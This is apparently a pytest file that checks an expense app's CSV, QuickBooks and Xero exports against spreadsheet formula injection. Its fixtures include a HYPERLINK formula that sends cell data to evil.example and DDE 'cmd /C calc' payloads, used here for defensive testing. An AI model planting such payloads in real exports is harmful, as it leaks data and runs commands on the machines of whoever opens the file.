"""Spreadsheet formula injection (OWASP "CSV injection") in every text export.

Merchant, note, customer, project and payee text comes from OCR and from what people type; a cell
that starts with ``= + - @``, a tab or a carriage return is a formula to Excel, LibreOffice and
Google Sheets. Every text export neutralises such cells (a leading apostrophe), and numbers,
negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from sqlalchemy.orm import Session, sessionmaker

from services.payouts import claim_batch
from storage.db import transaction
from storage.exports import build_export
from storage.models import ExpenseProject
from storage.reports import report_csv, spend_report
from tests.finance.conftest import add_customer, add_expense, add_user
from workflows.exports import BatchExport, ExportLine, generic_csv, quickbooks_csv, spreadsheet_safe, xero_csv

HOSTILE = {
    "merchant": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "customer": "+cmd|' /C calc'!A0",
    "payee": "-2+3+cmd|' /C calc'!A0",
    "project": "@SUM(1+1)*cmd|' /C calc'!A0",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    for cell in _cells(text):
        if cell.startswith(FORMULA_START):
            assert _is_number(cell), f"formula cell {cell!r}"


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell.rstrip("%"))
    except ArithmeticError:
        return False
    return True


@pytest.fixture
def hostile_batch(factory: sessionmaker[Session]) -> tuple[sessionmaker[Session], int]:
    with transaction(factory) as s:
        customer = add_customer(s, HOSTILE["customer"], "C-666")
        add_user(s, "U_EMP", "emp@example.com", HOSTILE["payee"])
        expense = add_expense(
            s, amount="42.50", currency="EUR", customer_id=customer, merchant=HOSTILE["merchant"]
        )
        s.add(ExpenseProject(expense_id=expense, project=HOSTILE["project"]))
        add_expense(s, amount="10.00", currency="EUR", merchant="\t=1+1")
        add_expense(s, amount="11.00", currency="EUR", merchant="\r@A1")
        batch = claim_batch(s, "test")
        assert batch is not None
        batch_id = batch.id
    return factory, batch_id


@pytest.mark.parametrize("fmt", ["csv", "quickbooks", "xero"])
def test_batch_exports_neutralise_formulas(
    hostile_batch: tuple[sessionmaker[Session], int], fmt: str
) -> None:
    factory, batch_id = hostile_batch
    with factory() as s:
        text = build_export(s, batch_id, fmt).content.decode("utf-8")
    _assert_no_formula(text)
    cells = _cells(text)
    # the text is kept, readable (behind an apostrophe where it would start a cell)
    assert any(HOSTILE["merchant"] in c for c in cells), fmt
    assert any(HOSTILE["customer"] in c for c in cells), fmt
    assert "'" + HOSTILE["payee"] in cells, fmt  # the payee (vendor, contact) has a cell of its own
    if fmt == "xero":
        assert "'" + HOSTILE["customer"] in cells  # the tracking option


def test_generic_csv_neutralises_the_project_cell(hostile_batch: tuple[sessionmaker[Session], int]) -> None:
    factory, batch_id = hostile_batch
    with factory() as s:
        rows = list(csv.DictReader(io.StringIO(build_export(s, batch_id, "csv").content.decode())))
    assert {r["project"] for r in rows} >= {"'" + HOSTILE["project"]}
    assert {r["merchant"] for r in rows} >= {"'" + HOSTILE["merchant"], "'\t=1+1", "'@A1"}


def _line(amount: str, merchant: str) -> ExportLine:
    return ExportLine(
        expense_id=1,
        ref="EXP-1",
        employee_id="U1",
        employee_email="a@example.com",
        payee="Ann",
        merchant=merchant,
        spent_on=dt.date(2026, 11, 2),
        category="meals",
        customer=None,
        project=None,
        amount=Decimal(amount),
        currency="USD",
        approved_at=None,
    )


@pytest.mark.parametrize("layout", [generic_csv, quickbooks_csv, xero_csv])
def test_negative_amounts_stay_numbers(layout: object) -> None:
    batch = BatchExport(
        batch_id=7,
        created_at=dt.datetime(2026, 11, 3, tzinfo=dt.UTC),
        lines=(_line("-12.50", "-Refund"), _line("3.00", "Cafe")),
    )
    text = layout(batch)  # type: ignore[operator]
    cells = _cells(text)
    assert "-12.50" in cells  # a refund's amount is still a number
    assert "'-Refund" in cells or any(c.startswith("EXP-1 · -Refund") for c in cells)
    _assert_no_formula(text)


def test_spend_report_csv_neutralises_formulas(factory: sessionmaker[Session]) -> None:
    with transaction(factory) as s:
        customer = add_customer(s, "=cmd|' /C calc'!A0", "C-1")
        add_expense(
            s,
            amount="100.00",
            currency="USD",
            customer_id=customer,
            merchant="@evil",
            spent_on=dt.date(2026, 10, 5),
        )
        add_expense(
            s,
            amount="10.00",
            currency="USD",
            customer_id=customer,
            merchant="@evil",
            spent_on=dt.date(2026, 11, 5),
        )
    with factory() as s:
        report = spend_report(s, "customer", dt.date(2026, 10, 1), dt.date(2026, 11, 30), "USD")
    text = report_csv(report)
    _assert_no_formula(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["customer"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["top_merchants"] == "'@evil (2)"
    assert rows[0]["mom_change_pct"] == "-90.0%"  # a negative change stays a number


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),
        ("+1+1", "'+1+1"),
        ("-12.50", "-12.50"),
        ("-5%", "-5%"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＝1", "'＝1"),
        ("Cafe", "Cafe"),
        ("", ""),
        ("1e5", "1e5"),
        ("-1e5", "'-1e5"),
        ("=", "'="),
    ],
)
def test_spreadsheet_safe(value: str, expected: str) -> None:
    assert spreadsheet_safe(value) == expected
